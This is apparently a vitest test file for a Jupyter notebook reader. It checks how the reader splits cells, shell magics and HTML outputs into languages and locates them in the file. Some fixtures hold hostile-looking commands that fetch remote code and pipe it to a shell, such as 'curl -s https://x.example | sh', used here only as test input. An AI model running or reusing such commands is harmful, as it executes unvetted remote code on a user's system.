import { describe, expect, test } from "vitest";
import { readNotebook } from "../../../src/read/markup/read-notebook.ts";
import { place, tell, type Told } from "../manifest/tell.ts";

const read = (text: string): Told => tell(readNotebook, "a.ipynb", text, "notebook");
const notebook = (cells: readonly unknown[], metadata: unknown = {}): string =>
  JSON.stringify({ cells, metadata, nbformat: 4 }, null, 1);
const code = (...source: readonly string[]): unknown => ({ cell_type: "code", source, outputs: [] });

describe("cells", () => {
  const text = notebook([
    { cell_type: "markdown", source: ["# Title\n", "Run the cell below."] },
    code("import os\n", 'os.system("curl -s https://x.example | sh")\n'),
  ]);
  const told = read(text);

  test("go to the readers of their languages", () => {
    expect(told.embedded.map((child) => [child.field, child.language])).toEqual([
      ["cells[0].source", "markdown"],
      ["cells[1].source", "python"],
    ]);
  });

  test("in the lines of the file", () => {
    expect(told.embedded[1]?.placeOf("curl")).toBe(place(text, "curl"));
    expect(told.embedded[0]?.placeOf("Run")).toBe(place(text, "Run"));
  });

  test("one string instead of a list will do", () => {
    const single = notebook([{ cell_type: "code", source: "a = 1\nfetch(b)\n" }]);
    expect(read(single).embedded[0]?.placeOf("fetch")).toBe(place(single, "fetch"));
  });

  test("another kernel, another language", () => {
    expect(read(notebook([code("!ready")], { kernelspec: { language: "javascript" } })).embedded).toMatchObject([
      { language: "javascript", text: "!ready" },
    ]);
    expect(read(notebook([code("x")], { kernelspec: { name: "forth" } })).embedded[0]?.language).toBe("unknown");
  });

  test("older notebooks have worksheets", () => {
    const old = JSON.stringify({ worksheets: [{ cells: [{ cell_type: "code", input: ["a = 1"] }] }], nbformat: 3 });
    expect(read(old).in("python")).toEqual(["a = 1"]);
  });
});

describe("magics", () => {
  const parts = (...source: readonly string[]): unknown =>
    read(notebook([code(...source)])).embedded.map(({ language, text }) => [language, text]);

  test("a command line leaves the code whole", () => {
    expect(parts("for url in urls:\n", "    !curl -s {url} | sh\n", "done = 1")).toEqual([
      ["python", "for url in urls:\n    pass\ndone = 1"],
      ["shell", "curl -s ${url} | sh\n"],
    ]);
  });

  test.each([
    ["%pip install thing", "pip install thing"],
    ["out = !ls -l", "ls -l"],
    ["%system id", " id"],
    ["!!id", "id"],
  ])("%s", (line, command) => {
    expect(parts(line)).toContainEqual(["shell", command]);
  });

  test.each(["%matplotlib inline", "a != b", "x = y % z", "# !ls"])("near miss: %s", (line) => {
    expect(JSON.stringify(parts(line))).not.toContain("shell");
  });

  test.each([
    ["%%bash", "shell"],
    ["%%script bash -e", "shell"],
    ["%%javascript", "javascript"],
    ["%%html", "html"],
    ["%%time", "python"],
  ])("%s takes the cell", (magic, language) => {
    expect(parts("\n", `${magic}\n`, "id")).toEqual([[language, "id"]]);
  });
});

test("output that runs in the viewer", () => {
  const output = {
    output_type: "display_data",
    data: { "text/html": ["<script>", "go()</script>"], "text/plain": "x", "image/png": "aaaa" },
  };
  expect(read(notebook([{ cell_type: "code", source: [], outputs: [output] }])).embedded).toMatchObject([
    { language: "html", text: "<script>go()</script>" },
  ]);
});

test("a broken notebook is read as far as it goes", () => {
  const text = notebook([code("import os")]).slice(0, -20);
  const told = read(text);
  expect(told.gaps).toMatchObject([{ code: "unparsable", blocking: true }]);
  expect(told.in("python")).toEqual(["import os"]);
});

test("a million lines cost no stack", () => {
  expect(read(notebook([code("x\\n".repeat(300_000))])).embedded.length).toBe(1);
});
